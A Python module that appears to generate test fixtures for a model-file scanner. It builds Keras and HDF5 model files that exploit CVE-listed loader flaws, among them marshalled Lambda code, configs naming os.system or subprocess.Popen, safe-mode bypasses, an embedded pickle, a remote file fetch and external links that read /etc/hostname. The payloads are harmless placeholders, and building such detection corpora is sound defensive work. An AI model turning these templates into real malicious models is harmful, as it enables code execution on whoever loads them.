"""Keras models whose configuration, weights or layers make the loader run or read something else."""

import base64
import io
import json
import marshal

import h5py
import numpy

from .archives import torch_archive, zipped
from .assemble import HARMLESS_EXPRESSION, SYSTEM

GUIDE = "https://github.com/keras-team/keras/security/advisories/"


def lambda_code():
    code = compile(f"lambda x: {HARMLESS_EXPRESSION} or x", "corpus", "eval")
    function = next(part for part in code.co_consts if hasattr(part, "co_code"))
    return base64.b64encode(marshal.dumps(function)).decode()


def sequential(*layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)}, "registered_name": None}


def layer(module, kind, config, **more):
    return {"module": module, "class_name": kind, "config": config, "registered_name": None, **more}


def archive(config, files=()):
    metadata = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    entries = [("metadata.json", json.dumps(metadata).encode()), ("config.json", json.dumps(config).encode())]
    return zipped([*entries, ("model.weights.h5", weights()), *files])


def hierarchical(attributes=(), build=lambda file: None):
    out = io.BytesIO()
    with h5py.File(out, "w", track_order=False) as file:
        for key, value in attributes:
            file.attrs[key] = value
        build(file)
    return out.getvalue()


def weights():
    return hierarchical(build=lambda file: file.create_dataset("layers/dense/vars/0", data=numpy.zeros(2, "f4")))


def old_model(*layers):
    config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)}}
    attributes = [("backend", "tensorflow"), ("keras_version", "2.12.0"), ("model_config", json.dumps(config))]
    return hierarchical(attributes, lambda file: file.create_group("model_weights"))


def outside(file):
    file["model_weights/kernel"] = h5py.ExternalLink("/etc/hostname", "/")


def external(file):
    file.create_dataset("model_weights/kernel", (8,), "u1", external=[("/etc/hostname", 0, 8)])


def items():
    old_lambda = {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32", "function": [lambda_code() + "\n", None, None], "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw", "arguments": {}}}
    yield "keras-lambda.h5", old_model(old_lambda), "HDF5: a Lambda layer with marshalled code", "CVE-2024-3660"
    nested = {"class_name": "TimeDistributed", "config": {"name": "wrapper", "layer": old_lambda}}
    yield "keras-lambda-wrapped.hdf5", old_model(nested), "HDF5: a Lambda within a wrapper, where safe_mode is not heard", "CVE-2025-9905"
    function = {"class_name": "__lambda__", "config": {"code": lambda_code(), "defaults": None, "closure": None}}
    yield "keras-lambda.keras", archive(sequential(layer("keras.layers", "Lambda", {"name": "lambda", "function": function}))), "a Lambda layer in the format of Keras 3", "https://www.tensorflow.org/api_docs/python/tf/keras/layers/Lambda"
    system = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    called = layer("keras.layers", "Lambda", {"name": "lambda", "function": system, "arguments": {}}, inbound_nodes=[{"args": ["true"], "kwargs": {}}])
    yield "keras-any-function.keras", archive(sequential(called)), "a function of any module, named by the configuration", "CVE-2025-1550"
    yield "keras-any-class.keras", archive(sequential(layer("subprocess", "Popen", {"args": ["true"]}))), "a class of any module, named by the configuration", "CVE-2025-1550"
    fetch = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}
    fetching = layer("keras.layers", "Lambda", {"name": "lambda", "function": fetch, "arguments": {"fname": "none", "origin": "http://none.invalid/", "cache_dir": "."}})
    yield "keras-get-file.keras", archive(sequential(fetching)), "a function of Keras itself that fetches a file to any place", "CVE-2025-8747"
    unsafe = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}
    yield "keras-unsafe-mode.keras", archive(sequential(layer("keras.layers", "Lambda", {"name": "first", "function": unsafe}), layer("keras.layers", "Lambda", {"name": "second", "function": function}))), "turns the safe mode off, then a Lambda", "CVE-2025-9906"
    loading = {"module": "keras.models", "class_name": "function", "config": "load_model", "registered_name": "function"}
    yield "keras-load-model.keras", archive(sequential(layer("keras.layers", "Lambda", {"name": "lambda", "function": loading, "arguments": {"safe_mode": False}}))), "loads another model without the safe mode", "CVE-2025-9906"
    wrapped = {"name": "torch", "module": {"class_name": "__bytes__", "config": base64.b64encode(torch_archive({"data.pkl": SYSTEM})).decode()}}
    yield "keras-torch-wrapper.keras", archive(sequential(layer("keras.src.utils.torch_utils", "TorchModuleWrapper", wrapped))), "a layer that holds a torch archive", "CVE-2025-49655"
    lookup = layer("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/hostname"})
    yield "keras-vocabulary.keras", archive(sequential(lookup)), "a vocabulary that is a file of the machine", "CVE-2025-12058"
    yield "keras-other-pickle.keras", archive(sequential(), [("assets/vocabulary.pkl", SYSTEM)]), "a pickle among the assets", "https://github.com/promptfoo/modelaudit/pull/518"
    yield "keras-external-link.h5", hierarchical(build=outside), "HDF5: a link to another file", "CVE-2026-1669"
    yield "keras-external-data.h5", hierarchical(build=external), "HDF5: data that lie in another file", "CVE-2026-1669"
